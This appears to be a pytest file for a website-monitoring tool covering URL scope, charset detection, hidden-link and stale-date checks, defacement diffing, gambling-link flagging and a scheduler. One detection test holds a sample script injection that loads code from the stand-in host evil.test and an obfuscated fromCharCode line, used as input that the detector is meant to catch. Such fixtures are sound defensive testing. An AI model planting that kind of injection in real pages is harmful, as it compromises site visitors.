"""Website monitoring parts without a web server (issue 17): URL scope, page reading (charsets, hidden styling,
dates, implanted code), the rules' data, masking, the scheduler's claims, and migration 0011 both ways."""
from __future__ import annotations

from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from sqlalchemy import insert, inspect

from sentinel import catalogue
from sentinel.store.db import Database, downgrade, upgrade
from sentinel.store.models import Department, System
from sentinel.websites import deface, monitor
from sentinel.websites.page import charset, hiding, newest_date, parse
from sentinel.websites.rules import RULES
from sentinel.websites.sites import SiteDeclaration, SiteScope, normalise_url
from tests.dbfixtures import pg_url

pytest_plugins = ["tests.dbfixtures"]
TODAY = date(2026, 12, 3)


def test_normalise_and_scope():
    assert normalise_url("HTTP://WWW.Example.GOV.cn:80/a/../b/./c.html#x") == "http://www.example.gov.cn/b/c.html"
    assert normalise_url("https://例子.中国/") == "https://xn--fsqu00a.xn--fiqs8s/"
    for bad, why in (("ftp://x/", "only http"), ("http://u:p@x/", "credentials"), ("http:///x", "no host")):
        with pytest.raises(ValueError, match=why):
            normalise_url(bad)
    scope = SiteScope(["https://www.example.gov.cn/zwgk/index.html"])
    assert scope.allows("https://www.example.gov.cn/zwgk/a/b.html")
    assert not scope.allows("https://www.example.gov.cn/other/")
    assert not scope.allows("http://www.example.gov.cn/zwgk/")  # another scheme is another origin
    assert not scope.allows("https://www.example.gov.cn:8443/zwgk/")
    assert not scope.allows("https://www.example.gov.cn/zwgk/../admin/")  # dot segments resolved first
    assert scope.on_site_host("https://www.example.gov.cn/other/")  # on the site, outside the scope: not external


def _facts(html: str, **kw):
    body = html.encode(kw.pop("encoding_of_bytes", "utf-8"))
    facts, _ = parse("http://site.test/p.html", body, on_site=lambda u: "site.test" in u, today=TODAY, **kw)
    return facts


def test_charsets_as_a_browser_settles_them():
    text = "<html><body><a href='/a'>通知公告</a></body></html>"
    gbk = text.encode("gb18030")
    assert charset(gbk, None) == "gb18030"  # no declaration, not UTF-8: the Chinese legacy encoding
    assert charset(b"<meta charset='gb2312'>" + gbk, None) == "gb18030"  # gb2312 read as its superset
    assert charset(text.encode(), None) == "utf-8"
    assert charset(gbk, "GBK") == "gb18030"
    assert _facts(text, encoding_of_bytes="gb18030").links[0].text == "通知公告"
    xml = "<?xml version='1.0' encoding='gb2312'?><html><body><a href='/b'>政策</a></body></html>"
    assert _facts(xml, encoding_of_bytes="gb18030").links[0].text == "政策"


@pytest.mark.parametrize("style, reason", [
    ("display: none", "display:none"), ("visibility:hidden", "visibility:hidden"), ("opacity:0", "opacity:0"),
    ("font-size:0px", "font-size:0"), ("position:absolute; left:-3000px", "off-screen (left:-3000px)"),
    ("text-indent:-9999px", "off-screen (text-indent:-9999px)"), ("height:0;overflow:hidden", "zero-size box"),
    ("DISPLAY:NONE !important", "display:none"),
])
def test_hiding(style, reason):
    from sentinel.websites.page import _declarations

    assert (hiding(_declarations(style)) or "").startswith(reason)


@pytest.mark.parametrize("style", ["position:absolute;left:-20px", "display:block", "opacity:0.5",
                                   "text-indent:-2em", "height:0", "color:red"])
def test_not_hiding(style):
    from sentinel.websites.page import _declarations

    assert hiding(_declarations(style)) is None


def test_hidden_by_ancestor_attribute_and_style_rule():
    facts = _facts("<html><head><style>#f a.x, .box { visibility: hidden }</style></head><body>"
                   "<div id='f'><a class='x' href='http://a.test/'>1</a><a href='http://b.test/'>2</a></div>"
                   "<div hidden><span><a href='http://c.test/'>3</a></span></div>"
                   "<p class='box'><a href='http://d.test/'>4</a></p></body></html>")
    hidden = {lk.url: lk.hidden for lk in facts.links}
    assert hidden["http://a.test/"].startswith("visibility:hidden (<style> rule)")
    assert hidden["http://b.test/"] is None
    assert hidden["http://c.test/"] == "hidden attribute"
    assert hidden["http://d.test/"].startswith("visibility:hidden")


def test_dates_and_implanted_code():
    text = "发布 2026-11-30 与 2026年12月2日，未来 2027-01-01，无效 2026-02-30"
    assert newest_date(text, [], TODAY) == date(2026, 12, 2)
    assert newest_date("今天是 2026年12月3日 星期四\n要闻 2026-11-01", [], TODAY) == date(2026, 11, 1)
    assert newest_date("", ["http://s/zwgk/202612/t20261201_123.html"], TODAY) == date(2026, 12, 1)
    facts = _facts("<html><body><script>document.write('<script src=\"http://evil.test/x.js\"></scr'+'ipt>')"
                   "</script><script>var s=String.fromCharCode(" + ",".join(["104"] * 30) + ");</script>"
                   "<iframe src='/own.html' width=0 height=0></iframe></body></html>")
    found = [str(m) for m in facts.malicious]
    assert any("writes an <script> from evil.test" in m for m in found)
    assert any("fromCharCode" in m for m in found)
    assert not any("own.html" in m for m in found)  # the site's own zero-size frame is no 挂马


def test_mask():
    lines = deface.mask("更新时间：2026-12-03 10:22:01 星期四\n  \n地址：人民路1号\n2026年12月3日")
    assert lines == ["更新时间：<日期> <时间> <星期>", "地址：人民路1号", "<日期>"]
    added, removed, diff = deface.compare(lines, ["更新时间：<日期> <时间> <星期>", "地址：HACKED"], "u")
    assert (added, removed) == (1, 2) and "+地址：HACKED" in diff


def test_rules_are_complete_and_cite_the_catalogue():
    cat = catalogue.load()
    ids = [r.id for r in RULES]
    assert len(ids) == len(set(ids))
    for r in RULES:
        assert r.title_zh and r.title_en and r.rationale_zh and r.rationale_en and r.remediation_zh and r.remediation_en
        assert r.source and r.kind in ("veto", "deduct", "security", "practice")
        if r.catalogue:
            assert cat.has(r.catalogue, 3), r.catalogue
    vetoes = {r.id for r in RULES if r.kind == "veto"}
    assert {"site.unreachable", "home.stale", "columns.stale", "columns.blank", "security.malicious_code",
            "security.tampered"} <= vetoes
    # every rule the judge can give is documented
    doc = (Path(__file__).resolve().parents[1] / "docs" / "websites.md").read_text(encoding="utf-8")
    for r in RULES:
        assert f"`{r.id}`" in doc, r.id


def _world(db: Database):
    now = datetime.now(timezone.utc)
    with db.write() as conn:
        d = conn.execute(insert(Department.__table__).values(name="d", title="", created_at=now)
                         ).inserted_primary_key[0]
        s = conn.execute(insert(System.__table__).values(
            name="s", department_id=d, title="", level=3, s_grade=3, a_grade=2, label="S3A2", owner="", zones=[],
            scan_scope=[], chain_head="0" * 64, created_at=now, updated_at=now)).inserted_primary_key[0]
    decl = SiteDeclaration.model_validate({"urls": ["http://192.0.2.10/"]})
    on = monitor.declare(db, department_id=d, system_id=s, name="on", decl=decl, actor="t", visit_seconds=600)
    off = monitor.declare(db, department_id=d, system_id=s, name="off", decl=decl, actor="t", enabled=False)
    return on, off


def test_scheduler_jobs_and_claims(tmp_path):
    from sentinel.collector.settings import CollectorSettings
    from sentinel.collector.websites import WebsiteService

    url = f"sqlite:///{tmp_path / 'w.db'}"
    upgrade(url)
    db = Database(url)
    on, off = _world(db)
    settings = CollectorSettings(state_dir=tmp_path / "state", websites={"enabled": True})
    service = WebsiteService(db, settings)
    service.start()
    try:
        jobs = {j.id: j for j in service._schedule.scheduler.get_jobs()}
        assert {f"website-round-{on}", f"website-visit-{on}"} <= set(jobs)
        assert not any(str(off) == j.rsplit("-", 1)[-1] for j in jobs if j.startswith("website-"))
        assert jobs[f"website-visit-{on}"].trigger.interval == timedelta(seconds=600)
        # a firing is claimed once: a second process (or the same, again) within half an interval skips it
        other = WebsiteService(db, settings)
        now = datetime.now(timezone.utc)
        assert service._claim(on, "visit_claimed_at", "visit_seconds", now)
        assert not other._claim(on, "visit_claimed_at", "visit_seconds", now + timedelta(seconds=200))
        assert other._claim(on, "visit_claimed_at", "visit_seconds", now + timedelta(seconds=301))
        assert not service._claim(off, "claimed_at", "interval_seconds", now)  # disabled: never
    finally:
        service.stop()
        db.dispose()
    # off unless the operator turns it on: no jobs at all
    quiet = WebsiteService(Database(url), CollectorSettings(state_dir=tmp_path / "state"))
    quiet.start()
    try:
        assert not quiet.started and quiet.next_run(on) is None
    finally:
        quiet.stop()


@pytest.fixture(params=["sqlite", "postgresql"])
def empty_url(request, tmp_path):
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'empty.db'}"
    return pg_url(request.getfixturevalue("pg_schemas").create("sentinel_web"))


def test_0011_both_ways(empty_url):
    db = Database(empty_url)
    try:
        upgrade(db)
        tables = {"websites", "website_rounds", "website_visits", "website_pages", "website_baselines",
                  "website_findings"}
        assert tables <= set(inspect(db.engine).get_table_names())
        on, _ = _world(db)
        rid = monitor.begin(db, on, "test", "t")
        with pytest.raises(monitor.RoundBusy, match="is running"):  # the partial unique index, on both databases
            monitor.begin(db, on, "test", "t")
        monitor.fail_round(db, rid, "test")
        monitor.begin(db, on, "test", "t")
        assert downgrade(db, "0010") == "0010"
        assert not tables & set(inspect(db.engine).get_table_names())
        upgrade(db)
    finally:
        db.dispose()


def test_gambling_words_count_on_links_that_leave_the_site():
    from sentinel.websites.crawl import Crawl, Fetch
    from sentinel.websites.judge import _content

    decl = SiteDeclaration.model_validate({"urls": ["http://site.test/"], "extra_keywords": ["某地赌档"]})
    facts = _facts("<html><body><a href='/news/1.html'>我市开展打击赌博专项行动 娱乐城窝点被捣毁</a>"
                   "<a href='http://x.test/'>澳门新葡京</a><a href='http://y.test/p'>某地赌档</a>"
                   "<a href='http://news.test/a'>公安部打击跨境赌博</a></body></html>")
    crawl = Crawl(fetches={"http://site.test/": Fetch(url="http://site.test/", depth=0, referrer=None, status=200,
                                                      facts=facts)})
    (bad,) = [v for v in _content(decl, crawl, decl.home) if v.rule == "security.bad_links"]
    assert bad.status == "fail" and len(bad.evidence) == 2
    assert "x.test" in bad.evidence[0] and "y.test" in bad.evidence[1]  # the site's own crackdown news is not


def test_an_old_style_statistics_snippet_is_no_malicious_code_once_its_host_is_declared():
    from sentinel.websites.crawl import Crawl, Fetch
    from sentinel.websites.judge import _content

    # Baidu Tongji's old snippet writes its script through unescape(), as implanted code does
    snippet = ("<html><body><script>var _bdhmProtocol = ((\"https:\" == document.location.protocol) ? "
               "\" https://\" : \" http://\");document.write(unescape(\"%3Cscript src='\" + _bdhmProtocol + "
               "\"hm.baidu.com/h.js%3Fabc' type='text/javascript'%3E%3C/script%3E\"));</script></body></html>")
    facts = _facts(snippet)
    (suspect,) = facts.malicious
    assert "document.write of unescaped text" in str(suspect) and suspect.hosts == ("hm.baidu.com",)
    crawl = Crawl(fetches={"http://site.test/": Fetch(url="http://site.test/", depth=0, referrer=None, status=200,
                                                      facts=facts)})
    for allowed, status in (([], "fail"), (["hm.baidu.com"], "pass")):
        decl = SiteDeclaration.model_validate({"urls": ["http://site.test/"], "allowed_hosts": allowed})
        (v,) = [v for v in _content(decl, crawl, decl.home) if v.rule == "security.malicious_code"]
        assert v.status == status, (allowed, v)
